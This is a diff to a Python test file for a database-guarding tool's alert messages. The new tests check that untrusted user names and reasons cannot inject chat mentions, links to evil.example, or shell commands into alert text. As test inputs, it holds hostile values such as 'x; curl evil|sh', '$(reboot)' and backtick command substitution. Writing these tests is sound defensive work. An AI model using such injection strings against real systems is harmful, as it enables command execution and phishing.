@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from datetime import UTC, datetime, timedelta
 from typing import Any
 
@@ -13,7 +14,7 @@ from pydantic import ValidationError
 from dbshield.config.alerts import EVENTS, AlertsConfig
 from dbshield.control.alert_rules import KINDS, alert_of, unreadable
 from dbshield.control.alert_store import SHOWN, Kept, Noted, alike, message, wants
-from dbshield.control.alert_wording import LONGEST, Alert
+from dbshield.control.alert_wording import LONGEST, Alert, plain
 
 NOW = datetime(2026, 5, 1, 12, 0, tzinfo=UTC)
 REFUSED = {
@@ -69,6 +70,29 @@ def test_a_text_of_somebody_elses_stays_on_its_line_and_in_its_place() -> None:
     assert "\x1b" not in alert.body
     assert "\u202e" not in alert.body
     assert max(map(len, alert.body.splitlines())) < LONGEST + 30
+
+
+MARKUP = "@everyone [approve](https://evil.example) <!channel> <https://evil.example|here> <@U1> x@here"
+
+
+def test_a_text_of_somebody_elses_is_no_link_and_calls_nobody() -> None:
+    """The name that a stranger claims, who has no token; chat services look for these in what is sent as plain text."""
+    alert = told("refused", user=f"{MARKUP}.staging", client="10.0.0.9:5000", reason=f"no agent {MARKUP}")
+    for text in (alert.title, alert.body):
+        for obeyed in ("@everyone", "@here", "](", "<!", "<@", "<h", "://"):
+            assert obeyed not in text, text
+    assert "approve] (https: //evil.example)" in alert.title
+
+
+@pytest.mark.parametrize("same", ["ann@example.com", "tags @> '{a}'", "a->>'b' <> c", "x[1] <= 2", "id::text", "10:30"])
+def test_what_nothing_obeys_stays_as_it_is(same: str) -> None:
+    assert plain(same) == same
+
+
+@pytest.mark.parametrize("user", ["x; curl evil|sh #.staging", "$(reboot).staging", "--config.staging", "", "`id`"])
+def test_no_stranger_writes_into_a_command_that_people_copy(user: str) -> None:
+    [look] = [line for line in told("refused", user=user, reason="no such agent").body.splitlines() if line.startswith("Look")]
+    assert look == "Look: dbshield token list, and dbshield audit search --kind refused"
 
 
 def test_who_guesses_at_the_console_is_told_of_by_where_they_are() -> None:
@@ -162,6 +186,12 @@ def test_one_alert_is_a_message_of_its_own() -> None:
     made = message([kept(1, "refused", count=4)])
     assert made.title == "dbshield: title 1 (4 times)"
     assert made.body == "body\nWhen: 2026-05-01 12:00:00 UTC to 12:00:09"
+
+
+def test_of_many_the_urgent_are_shown_first() -> None:
+    others = [kept(number, f"event {number}") for number in range(SHOWN + 5)]
+    urgent = [replace(kept(number, "frozen"), urgent=True) for number in (90, 91)]
+    assert message([*others, *urgent]).body.startswith("title 90\n")
 
 
 def test_of_many_the_rarest_are_shown_first() -> None:
